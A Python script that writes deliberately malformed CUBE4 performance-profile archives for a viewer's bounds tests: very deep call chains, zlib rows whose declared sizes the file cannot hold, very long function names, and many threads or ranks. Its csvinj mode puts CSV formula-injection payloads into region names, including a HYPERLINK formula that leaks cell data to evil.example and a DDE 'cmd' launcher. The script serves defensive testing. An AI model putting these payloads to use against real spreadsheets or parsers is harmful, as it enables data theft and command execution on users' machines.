#!/usr/bin/env python3
"""Writes hostile CUBE4 files for the viewer's bounds tests (issue 15).

    hostile_profiles.py deep N OUT        a comb: a chain of N frames 'f', each
                                          also calling MPI_Send (2N call paths,
                                          depth N; every path has time 1 s)
    hostile_profiles.py cells NC NL OUT [shared|sparse|procs]
                                          NC call paths x NL locations, the
                                          archive gzip-compressed:
                                          shared: every row of the zlib data
                                            points at one compressed block (a
                                            declared size the file cannot hold)
                                          sparse: one honest row, the others
                                            absent (zero), NL threads of one rank
                                          procs: as sparse, NL ranks of one thread
                                          (call paths at distinct lines: never merged)
    hostile_profiles.py longname L N OUT  main calling N times (N call paths at
                                          distinct lines) a function whose name
                                          is L bytes long (gzip-compressed)
    hostile_profiles.py bushy N OUT       main calling N functions g0..g(N-1), each
                                          calling MPI_Send (2N+1 call paths), 4
                                          ranks, 6 metrics; g_i's time 1/(i+1) s
                                          (a few heavy paths, a long light tail),
                                          its MPI_Send 0.5/(i+1) s, i+1 visits
    hostile_profiles.py csvinj OUT        region and metric names that start
                                          like spreadsheet formulas, and a
                                          negative value

Equivalent to ../shared/repro/viewer/{deep500k,cells1,csvinj}.cubex, smaller.
"""
import gzip
import io
import struct
import sys
import tarfile
import zlib


def metric_xml(mid, name, dtype="DOUBLE", uom="sec"):
    return ('<metric id="%d" type="EXCLUSIVE"><disp_name>%s</disp_name><uniq_name>%s</uniq_name>'
            '<dtype>%s</dtype><uom>%s</uom><url></url><descr></descr></metric>\n'
            % (mid, name, name, dtype, uom))


def region_xml(rid, name, paradigm="user"):
    return ('<region id="%d" mod="" begin="-1" end="-1"><name>%s</name><mangled_name>%s</mangled_name>'
            '<paradigm>%s</paradigm><role>function</role><url></url><descr></descr></region>\n'
            % (rid, name, name, paradigm))


def system_xml(nprocs, threads):
    out = ['<system>\n<systemtreenode Id="0"><name>m</name><class>machine</class>\n']
    loc = 0
    for p in range(nprocs):
        out.append('<locationgroup Id="%d"><name>rank %d</name><rank>%d</rank><type>process</type>\n' % (p, p, p))
        for t in range(threads):
            out.append('<location Id="%d"><name>t</name><rank>%d</rank><type>thread</type></location>\n' % (loc, t))
            loc += 1
        out.append('</locationgroup>\n')
    out.append('</systemtreenode>\n</system>\n')
    return "".join(out)


def anchor(metrics, regions, cnodes, system):
    return ('<?xml version="1.0" encoding="UTF-8"?>\n<cube version="4.4">\n<doc></doc>\n<metrics>\n'
            + metrics + '</metrics>\n<program>\n' + regions + cnodes + '</program>\n' + system + '</cube>\n')


def dense_index():
    return b"CUBEX.INDEX" + struct.pack("<IHB", 1, 0, 3)


def sparse_index(rows):
    return b"CUBEX.INDEX" + struct.pack("<IHBI", 1, 0, 1, len(rows)) + b"".join(struct.pack("<I", r) for r in rows)


def archive(members, compress=False, level=9):
    buf = io.BytesIO()
    with tarfile.open(fileobj=buf, mode="w", format=tarfile.USTAR_FORMAT) as tar:
        for name, data in members:
            info = tarfile.TarInfo(name)
            info.size = len(data)
            tar.addfile(info, io.BytesIO(data))
    data = buf.getvalue()
    return gzip.compress(data, level) if compress else data


def deep(n, out):
    # cnode 2k: f at depth k; cnode 2k+1: its MPI_Send child (written
    # right after its caller opens, so the file stays in preorder)
    cn = []
    for k in range(n):
        cn.append('<cnode id="%d" calleeId="0">\n<cnode id="%d" calleeId="1"/>\n' % (2 * k, 2 * k + 1))
    cn.append("</cnode>\n" * n)
    xml = anchor(metric_xml(0, "time"), region_xml(0, "f") + region_xml(1, "MPI_Send", "mpi"),
                 "".join(cn), system_xml(1, 1))
    # rows in preorder: f0, MPI_Send0, f1, MPI_Send1, ...: every path 1 s
    data = b"CUBEX.DATA" + struct.pack("<d", 1.0) * (2 * n)
    open(out, "wb").write(archive([("anchor.xml", xml.encode()), ("0.index", dense_index()),
                                   ("0.data", data)], compress=True))


def bushy(n, out, nprocs=4):
    names = ("time", "sec"), ("comp_time", "sec"), ("mpi_time", "sec"), ("visits", "occ"), \
        ("bytes_sent", "bytes"), ("bytes_received", "bytes")
    metrics = "".join(metric_xml(i, nm, "DOUBLE" if uom == "sec" else "UINT64", uom)
                      for i, (nm, uom) in enumerate(names))
    regions = region_xml(0, "main") + region_xml(1, "MPI_Send", "mpi") + \
        "".join(region_xml(2 + i, "g%d" % i) for i in range(n))
    # cnode 0: main; 1 + 2i: g_i; 2 + 2i: its MPI_Send (preorder)
    cn = ['<cnode id="0" calleeId="0">\n']
    for i in range(n):
        cn.append('<cnode id="%d" calleeId="%d" line="%d">\n<cnode id="%d" calleeId="1"/>\n</cnode>\n'
                  % (1 + 2 * i, 2 + i, 10 + i, 2 + 2 * i))
    cn.append("</cnode>\n")
    xml = anchor(metrics, regions, "".join(cn), system_xml(nprocs, 1))
    # exclusive values per row (cnode), the same on every rank
    rows = {m: [0.0] * (2 * n + 1) for m, _ in names}
    rows["time"][0] = rows["comp_time"][0] = 1.0
    for i in range(n):
        g, s = 1 + 2 * i, 2 + 2 * i
        rows["time"][g] = rows["comp_time"][g] = 1.0 / (i + 1)
        rows["time"][s] = rows["mpi_time"][s] = 0.5 / (i + 1)
        rows["visits"][s] = i + 1
        rows["bytes_sent"][s] = rows["bytes_received"][s] = 8 * (i + 1)
    members = [("anchor.xml", xml.encode())]
    for i, (nm, uom) in enumerate(names):
        fmt = "<%d%s" % (nprocs, "d" if uom == "sec" else "Q")
        conv = float if uom == "sec" else int
        data = b"".join(struct.pack(fmt, *([conv(v)] * nprocs)) for v in rows[nm])
        members += [("%d.index" % i, dense_index()), ("%d.data" % i, b"CUBEX.DATA" + data)]
    open(out, "wb").write(archive(members, compress=True, level=1))


def cells(nc, nl, out, kind):
    # distinct call-site lines: the viewer does not merge the call paths
    cn = '<cnode id="0" calleeId="0">\n' + "".join('<cnode id="%d" calleeId="0" line="%d"/>\n' % (i, i)
                                                   for i in range(1, nc)) + "</cnode>\n"
    procs, threads = (nl, 1) if kind == "procs" else (1, nl)
    xml = anchor(metric_xml(0, "time"), region_xml(0, "r"), cn, system_xml(procs, threads))
    row = struct.pack("<d", 1.0) * nl
    block = zlib.compress(row, 9)
    if kind == "shared":
        rows = list(range(nc))
        index = dense_index()
        table = b"".join(struct.pack("<QQQ", r * len(row), 0, len(block)) for r in rows)
    else:
        rows = [nc - 1]
        index = sparse_index(rows)
        table = struct.pack("<QQQ", 0, 0, len(block))
    data = b"ZCUBEX.DATA" + struct.pack("<Q", len(rows)) + table + block
    open(out, "wb").write(archive([("anchor.xml", xml.encode()), ("0.index", index), ("0.data", data)],
                                  compress=True))


def longname(length, n, out):
    regions = region_xml(0, "main") + region_xml(1, "x" * (length - 1) + "y")
    cn = ('<cnode id="0" calleeId="0">\n' + "".join('<cnode id="%d" calleeId="1" line="%d"/>\n' % (i, i)
                                                   for i in range(1, n + 1)) + "</cnode>\n")
    xml = anchor(metric_xml(0, "time"), regions, cn, system_xml(1, 1))
    data = b"CUBEX.DATA" + struct.pack("<d", 1.0) * (n + 1)
    open(out, "wb").write(archive([("anchor.xml", xml.encode()), ("0.index", dense_index()),
                                   ("0.data", data)], compress=True))


def csvinj(out):
    names = ['=HYPERLINK("http://evil.example/?leak="&amp;A1,"click")', "@SUM(1+1)*cmd|' /C calc'!A0",
             "+cmd", "-cmd", "plain"]
    regions = "".join(region_xml(i, nm) for i, nm in enumerate(names))
    # a chain: each name calls the next
    cn = "".join('<cnode id="%d" calleeId="%d">\n' % (i, i) for i in range(len(names))) + "</cnode>\n" * len(names)
    metrics = metric_xml(0, "time") + metric_xml(1, "=metric")
    xml = anchor(metrics, regions, cn, system_xml(1, 1))
    n = len(names)
    time = b"CUBEX.DATA" + b"".join(struct.pack("<d", v) for v in [-1.5] + [1.0] * (n - 1))
    other = b"CUBEX.DATA" + struct.pack("<d", 2.0) * n
    open(out, "wb").write(archive([("anchor.xml", xml.encode()),
                                   ("0.index", dense_index()), ("0.data", time),
                                   ("1.index", dense_index()), ("1.data", other)]))


def main(a):
    if len(a) == 3 and a[0] == "deep":
        deep(int(a[1]), a[2])
    elif len(a) in (4, 5) and a[0] == "cells":
        cells(int(a[1]), int(a[2]), a[3], a[4] if len(a) == 5 else "shared")
    elif len(a) == 4 and a[0] == "longname":
        longname(int(a[1]), int(a[2]), a[3])
    elif len(a) == 3 and a[0] == "bushy":
        bushy(int(a[1]), a[2])
    elif len(a) == 2 and a[0] == "csvinj":
        csvinj(a[1])
    else:
        sys.exit(__doc__)


if __name__ == "__main__":
    main(sys.argv[1:])
